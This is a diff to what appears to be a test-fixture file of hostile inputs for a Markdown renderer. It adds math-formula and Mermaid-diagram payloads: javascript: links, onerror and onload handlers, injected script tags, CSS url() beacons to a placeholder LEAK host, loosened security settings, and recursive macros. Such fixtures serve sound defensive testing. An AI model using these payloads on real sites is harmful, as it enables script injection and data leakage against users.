@@ -226,6 +226,40 @@ const odd = [
   `${'\u0300'.repeat(500)}a<img src=x onerror=RUN>`,
 ]
 
+/** Formulas that would lead, load, run, grow without end or cover the page. */
+const formulas = [
+  String.raw`$\href{javascript:RUN}{x}$ and \(\url{http://LEAK/url}\)`,
+  String.raw`$$\includegraphics[height=1em]{http://LEAK/graphics.png}$$`,
+  String.raw`$\htmlStyle{background:url(http://LEAK/style)}{x}$`,
+  String.raw`$\htmlClass{fixed inset-0 z-50}{x}$ $\htmlId{cookie}{x}$ $\htmlData{a=b}{x}$`,
+  String.raw`$\text{<img src=x onerror=RUN>}$ $\text{</annotation></math><script>RUN</script>}$`,
+  String.raw`$\color{red;background:url(http://LEAK/colour)}x$ $\textcolor{#f00"onload="RUN}{x}$`,
+  String.raw`\[\def\a{\a\a}\a\] \[\newcommand\b[1]{#1#1\b{#1}}\b{x}\]`,
+  String.raw`$$\rule{9999em}{9999em}\raisebox{9999em}{x}\kern-9999em$$`,
+  '```math\n\\href{javascript:RUN}{x}</code><script>RUN</script>\n```',
+]
+
+const mermaid = (source: string) => `\`\`\`mermaid\n${source}\n\`\`\``
+
+/** Diagrams that would do the same while they are drawn. */
+const diagrams = [
+  `graph TD\n  A["<img src=x onerror=${run}>"] --> B["<script>${run}</script>"]`,
+  `graph TD\n  A --> B\n  click A "javascript:${run}"\n  click B call __ran(1)`,
+  `graph TD\n  A --> B\n  click A "http://${leak}/click" _self`,
+  `graph TD\n  A@{ img: "http://${leak}/shape.png", label: "a", w: 60, h: 60 }`,
+  `graph TD\n  A@{ "i\\u006dg": "http://${leak}/escaped.png", w: 60, h: 60 }`,
+  `graph TD\n  A --> B\n  style A fill:url(http://${leak}/fill)`,
+  `graph TD\n  A:::c\n  classDef c background:u\\72l(http://${leak}/class)`,
+  `%%{init: {"themeCSS": ".node{background:url(http://${leak}/theme)} @import 'http://${leak}/import'"}}%%\ngraph TD\n  A --> B`,
+  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\ngraph TD\n  A["<img src='http://${leak}/label.png' onerror=${run}>"]`,
+  `---\nconfig:\n  securityLevel: loose\n  fontFamily: "x;} * {background:u\\72l(http://${leak}/font)"\n---\ngraph TD\n  A --> B`,
+  `sequenceDiagram\n  A->>B: <img src="http://${leak}/message.png">\n  link A: x @ javascript:${run}`,
+  `classDiagram\n  class A["<svg onload=${run}>"]\n  link A "http://${leak}/class"`,
+  `pie title <script>${run}</script>\n  "<img src=x onerror=${run}>" : 1`,
+  `graph TD\n  A["$$\\href{javascript:${run}}{x}$$"] --> B`,
+  `no diagram at all <script>${run}</script>`,
+].map(mermaid)
+
 /** Markdown that takes in all that follows it, wherever a payload is not alone. */
 const unclosed = [
   `<!-- never closed ${script}`,
@@ -255,7 +289,12 @@ const arm = (texts: readonly string[]): string[] =>
 
 /** HTML that acts by itself in a page that takes it for its own. */
 export const eagerHtml: readonly string[] = arm(eager)
-const closed = [...eagerHtml, ...arm([...patient, ...schemes, ...pictures, ...odd])]
+/** How many payloads are diagrams. */
+export const diagramCount = diagrams.length
+const closed = [
+  ...eagerHtml,
+  ...arm([...patient, ...schemes, ...pictures, ...odd, ...formulas, ...diagrams]),
+]
 const openEnded = arm(unclosed)
 
 /** All that the database can hold. */
